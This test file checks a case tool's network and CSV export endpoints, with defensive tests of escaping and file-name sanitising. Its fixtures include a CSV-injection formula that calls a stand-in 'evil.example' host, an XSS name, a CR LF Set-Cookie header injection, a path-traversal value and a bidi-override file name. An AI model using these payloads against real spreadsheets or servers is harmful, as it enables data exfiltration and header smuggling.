import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withCase } from '../../api/case.js';
import { ingestFile } from '../../api/ingest.js';
import { jsonl, msg } from '../../api/test-support/tmp.js';
import type { RunningServer } from '../server.js';
import { startTestServer } from '../test-support/server.js';
import { ARABIC, XSS } from '../test-support/case.js';
import { call, type HttpReply } from '../test-support/http.js';
import type { WireError } from '../wire.js';
import { contentDisposition, fileName, safeNamePart } from '../download.js';

const get = (srv: RunningServer, path: string) => call(srv, 'GET', path);
const rows = (r: HttpReply): string[][] => parse(r.text.replace(/^\ufeff/, ''), { relax_column_count: false }) as string[][];
const header = (r: HttpReply, name: string) => String(r.headers[name] ?? '');

// A chain A–B–C–D in March, E–F in April; hostile names, a formula, Arabic and Cyrillic, a broken line
const [A, B, C, D, E, F] = ['skyecc:A', 'skyecc:B', 'skyecc:C', 'skyecc:D', 'skyecc:E', 'skyecc:F'];
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let srv: RunningServer;
let hostile: RunningServer;
let root: string;

describe('exports: network files and table CSVs', () => {
  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), 'clew-export-'));
    const src = join(root, 'x.jsonl');
    writeFileSync(
      src,
      jsonl([
        { type: 'account', ref: A, kind: 'pin', display_name: `Kum ${XSS}` },
        { type: 'account', ref: B, kind: 'pin', display_name: FORMULA },
        { type: 'account', ref: C, kind: 'pin', display_name: 'أبو خالد' },
        msg(A!, B!, '2021-03-01T10:00:00Z', 'kafa sutra, zovi +381641234567'),
        msg(B!, A!, '2021-03-01T10:01:00Z', `kafa ${FORMULA}`),
        msg(A!, B!, '2021-03-01T10:02:00Z', 'Контејнер у Бару, кафа 850 кг'),
        msg(B!, C!, '2021-03-02T10:00:00Z', `kafa ${ARABIC}`),
        msg(C!, D!, '2021-03-03T10:00:00Z', 'kafa, "quoted", and\na second line'),
        msg(E!, F!, '2021-04-01T10:00:00Z', 'kafa april'),
        // more than one page of the search CSV (500 a page)
        ...Array.from({ length: 520 }, (_, i) => msg(E!, F!, `2021-04-02T${String(10 + Math.floor(i / 60)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}:00Z`, `filler ${i}`)),
      ]) +  '{"type":"message","broken":\n',
    );
    const casePath = join(root, 'case.clew');
    await withCase(casePath, { create: true }, (s) => ingestFile(s, src));
    // the same case under a hostile file name: quotes, a semicolon, CR LF and a header of its own
    const evil = join(root, 'Op "Nightfall"; x=1\r\nSet-Cookie: a=b кафа.clew');
    copyFileSync(casePath, evil);
    srv = await startTestServer(root, casePath);
    hostile = await startTestServer(root, evil);
  });
  afterAll(async () => {
    await srv?.close();
    await hostile?.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('downloads GEXF with its type, an attachment name and its provenance inside', async () => {
    const r = await get(srv, '/api/network/export?format=gexf');
    expect(r.status).toBe(200);
    expect(header(r, 'content-type')).toBe('application/gexf+xml; charset=utf-8');
    expect(header(r, 'content-disposition')).toBe('attachment; filename="clew-case-network.gexf"');
    expect(header(r, 'cache-control')).toBe('no-store');
    expect(header(r, 'x-content-type-options')).toBe('nosniff');
    expect(r.text.match(/<node /g)).toHaveLength(6);
    const description = /<description>([^<]*)<\/description>/.exec(r.text)![1]!;
    expect(description).toContain('case case.clew');
    expect(description).toContain('Scope: the whole network (6 nodes)');
    expect(description).toContain('channels all');
    expect(r.text).toContain('Kum &lt;img'); // hostile names escaped
  });

  it('honours the filters and the scope, and says so inside GraphML', async () => {
    const r = await get(srv, `/api/network/export?format=graphml&before=2021-04-01&scope=${encodeURIComponent(`ego:${B}:1`)}`);
    expect(r.status).toBe(200);
    expect(header(r, 'content-type')).toBe('application/graphml+xml; charset=utf-8');
    expect(header(r, 'content-disposition')).toBe('attachment; filename="clew-case-network-scoped.graphml"');
    // B's 1-hop ego network before April: A, B, C (not D two hops away, not E–F in April)
    expect(r.text.match(/<node /g)).toHaveLength(3);
    expect(r.text).not.toContain('skyecc:E');
    const desc = /<data key="description">([^<]*)<\/data>/.exec(r.text)![1]!;
    expect(desc).toContain(`Scope: ego:${B}:1`);
    expect(desc).toContain('3 of 4 nodes');
    expect(desc).toContain('before 2021-04-01 (UTC)');
  });

  it('downloads the i2 link table and FollowTheMoney entities, at person level too', async () => {
    const i2 = await get(srv, '/api/network/export?format=i2');
    expect(i2.status).toBe(200);
    expect(header(i2, 'content-type')).toBe('text/csv; charset=utf-8');
    expect(header(i2, 'content-disposition')).toBe('attachment; filename="clew-case-network.i2.csv"');
    expect(i2.text.split('\r\n')[0]).toBe('Entity1 ID,Entity1 Label,Entity1 Type,Entity2 ID,Entity2 Label,Entity2 Type,Link Type,Link Direction,Weight,First Date,First Time,Last Date,Last Time');
    expect(i2.text).toContain(`'${FORMULA.replace(/"/g, '""')}`.slice(0, 12)); // formula label guarded
    const ftm = await get(srv, '/api/network/export?format=ftm&level=person');
    expect(ftm.status).toBe(200);
    expect(header(ftm, 'content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(header(ftm, 'content-disposition')).toBe('attachment; filename="clew-case-network-persons.ftm.json"');
    const entities = ftm.text.trim().split('\n').map((l) => JSON.parse(l) as { schema: string });
    expect(entities).toHaveLength(6);
    expect(entities.every((e) => e.schema === 'UserAccount')).toBe(true);
  });

  it('refuses an unknown format, a bad filter and a bad scope with a JSON error, not a file', async () => {
    for (const q of ['format=csv', 'format=pdf', 'format=gexf&after=yesterday', 'format=gexf&scope=ego%3Anobody', 'format=gexf&evil=1']) {
      const r = await get(srv, `/api/network/export?${q}`);
      expect(r.status, q).toBeGreaterThanOrEqual(400);
      expect(header(r, 'content-disposition'), q).toBe('');
      expect(r.json<WireError>().error.code, q).toMatch(/INVALID_ARGUMENT|NOT_FOUND/);
    }
  });

  it('never puts a hostile case name or subject into the header unescaped', async () => {
    const r = await get(hostile, '/api/network/export?format=gexf');
    expect(r.status).toBe(200);
    const cd = header(r, 'content-disposition');
    expect(cd).toBe(`attachment; filename="clew-Op-Nightfall-x-1-Set-Cookie-a-b-____-network.gexf"; filename*=UTF-8''clew-Op-Nightfall-x-1-Set-Cookie-a-b-${encodeURIComponent('кафа')}-network.gexf`);
    expect(r.headers['set-cookie']).toBeUndefined();
    const c = await get(srv, `/api/csv/contacts?subject=${encodeURIComponent(A)}`);
    expect(header(c, 'content-disposition')).toBe('attachment; filename="clew-case-contacts-skyecc-A.csv"');
  });

  it('sends search hits as CSV: BOM, every page, whole bodies, formulas guarded, Cyrillic and Arabic intact', async () => {
    const r = await get(srv, '/api/csv/search?q=kafa');
    expect(r.status).toBe(200);
    expect(header(r, 'content-type')).toBe('text/csv; charset=utf-8');
    expect(header(r, 'content-disposition')).toBe('attachment; filename="clew-case-search.csv"');
    expect(header(r, 'x-clew-row-cap')).toBe('50000');
    expect([...r.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const t = rows(r);
    expect(t[0]).toEqual(['message_id', 'time_utc', 'sender_ref', 'sender_name', 'conversation_id', 'conversation_title', 'body', 'code_words']);
    expect(t).toHaveLength(1 + 6); // every kafa / кафа message
    const bodies = t.slice(1).map((x) => x[6]);
    expect(bodies).toContain('kafa, "quoted", and\na second line');
    expect(bodies).toContain(`kafa ${ARABIC}`);
    expect(bodies).toContain('Контејнер у Бару, кафа 850 кг');
    expect(t.slice(1).find((x) => x[2] === B)![3]).toBe(`'${FORMULA}`);
    for (const row of t) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('sends every page of a long search, each hit once', async () => {
    const t = rows(await get(srv, '/api/csv/search?q=filler'));
    expect(t).toHaveLength(1 + 520);
    expect(new Set(t.slice(1).map((x) => x[0])).size).toBe(520);
  });

  it('gives a bad search query a JSON error before any file starts', async () => {
    const r = await get(srv, '/api/csv/search?q=');
    expect(r.status).toBe(400);
    expect(header(r, 'content-disposition')).toBe('');
  });

  it('sends a dossier’s contacts, the timeline, entities and quarantine as CSV', async () => {
    const contacts = rows(await get(srv, `/api/csv/contacts?subject=${encodeURIComponent(B)}`));
    expect(contacts[0]).toEqual(['contact_ref', 'contact_name', 'platform', 'handle', 'total', 'sent', 'received', 'calls', 'first_utc', 'last_utc']);
    expect(contacts.slice(1).map((c) => c[0]).sort()).toEqual([A, C]);
    expect(contacts.find((c) => c[0] === A)!.slice(4, 8)).toEqual(['3', '1', '2', '0']);

    const tl = await get(srv, `/api/csv/timeline?unit=month&account=${encodeURIComponent(A)}&account=${encodeURIComponent(E)}`);
    expect(header(tl, 'content-disposition')).toBe('attachment; filename="clew-case-timeline-month.csv"');
    const timeline = rows(tl);
    expect(timeline[0]).toEqual(['series', 'label', 'start_utc', 'end_utc', 'messages', 'calls']);
    expect(timeline.slice(1).map((x) => [x[0], x[2], x[4]])).toEqual([
      [A, '2021-03-01T00:00:00.000Z', '3'],
      [A, '2021-04-01T00:00:00.000Z', '0'],
      [E, '2021-03-01T00:00:00.000Z', '0'],
      [E, '2021-04-01T00:00:00.000Z', '521'],
    ]);
    expect(timeline[1]![1]).toBe(`Kum ${XSS}`);

    const ent = await get(srv, '/api/csv/entities?type=phone');
    expect(header(ent, 'content-disposition')).toBe('attachment; filename="clew-case-entities-phone.csv"');
    const entities = rows(ent);
    expect(entities[0]).toEqual(['type', 'entity', 'as_written', 'mentions', 'messages', 'first_utc', 'last_utc', 'top_accounts']);
    expect(entities[1]![1]).toBe("'+381641234567"); // a leading + is a formula to a spreadsheet: guarded
    expect(entities[1]![7]).toBe(`${A} (1)`);

    const q = rows(await get(srv, '/api/csv/quarantine'));
    expect(q[0]).toEqual(['file', 'line', 'place', 'code', 'reason', 'excerpt']);
    expect(q).toHaveLength(2);
    expect(q[1]![0]).toBe(join(root, 'x.jsonl'));
    expect(q[1]![1]).toBe('530'); // the broken last line
  });

  it('validates the table queries', async () => {
    expect((await get(srv, '/api/csv/entities?type=nonsense')).status).toBe(400);
    expect((await get(srv, '/api/csv/quarantine?limit=5')).status).toBe(400);
    expect((await get(srv, '/api/csv/contacts')).status).toBe(400);
    expect((await get(srv, '/api/csv/contacts?subject=nobody')).status).toBe(404);
    expect((await get(srv, '/api/csv/timeline?unit=year')).status).toBe(400);
  });
});

describe('download file names', () => {
  it('keeps letters and digits of any script, and nothing that could break the header', () => {
    expect(safeNamePart('Op "Nightfall"; x=1\r\nSet-Cookie: a=b')).toBe('Op-Nightfall-x-1-Set-Cookie-a-b');
    expect(safeNamePart('../../etc/passwd')).toBe('etc-passwd');
    expect(safeNamePart('"";\\')).toBe('case');
    expect(safeNamePart('x'.repeat(500))).toHaveLength(60);
    expect(safeNamePart('invoice\u202Egpj.exe')).toBe('invoice-gpj.exe'); // a bidi override cannot disguise the name
    expect(safeNamePart('नमस्ते')).toBe('नमस्ते'); // letters keep their marks
    expect(fileName('Случај 7.clew', ['contacts', 'person:12'], 'csv')).toBe('clew-Случај-7-contacts-person-12.csv');
    expect(contentDisposition('clew-Случај-7.csv')).toBe(`attachment; filename="clew-______-7.csv"; filename*=UTF-8''clew-${encodeURIComponent('Случај')}-7.csv`);
    expect(contentDisposition('a"b\r\n;c.csv')).toBe('attachment; filename="a-b---c.csv"');
  });
});
